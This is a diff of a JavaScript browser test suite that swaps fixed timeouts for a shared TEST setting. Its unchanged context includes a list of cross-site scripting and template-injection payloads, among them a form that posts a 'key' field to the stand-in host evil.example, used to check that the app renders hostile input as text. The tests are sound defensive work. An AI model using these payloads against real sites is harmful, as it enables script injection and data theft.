@@ -5,7 +5,7 @@ import { test } from "node:test";
 import { Console, openBrowser } from "./browser.mjs";
 import { connectSocket } from "./clients.mjs";
 import { Server } from "./harness.mjs";
-import { SOON } from "./wait.mjs";
+import { SOON, TEST } from "./wait.mjs";
 
 const payloads = [
   `<img src=x onerror="alert(1)">`, `<script>alert(2)</script>`, `"><svg onload=alert(3)>`, `javascript:alert(4)`,
@@ -14,7 +14,7 @@ const payloads = [
   `{{constructor.constructor('alert(6)')()}}`, `' onfocus=alert(7) autofocus x='`, `<form action=//evil.example><input name=key></form>`,
 ];
 
-test("hostile names and data stay text", { timeout: 90_000 }, async (t) => {
+test("hostile names and data stay text", TEST, async (t) => {
   const server = await Server.start(t);
   const page = await Console.open(await openBrowser(t), server, { view: "try" });
   const sides = [page.side("socketio"), page.side("sse")];
@@ -79,7 +79,7 @@ test("hostile names and data stay text", { timeout: 90_000 }, async (t) => {
   assert.deepEqual(foreign, []);
 });
 
-test("the policy stops what the page does not", { timeout: 60_000 }, async (t) => {
+test("the policy stops what the page does not", TEST, async (t) => {
   const server = await Server.start(t);
   const page = await Console.open(await openBrowser(t), server);
   const stopped = await page.page.evaluate(async () => {
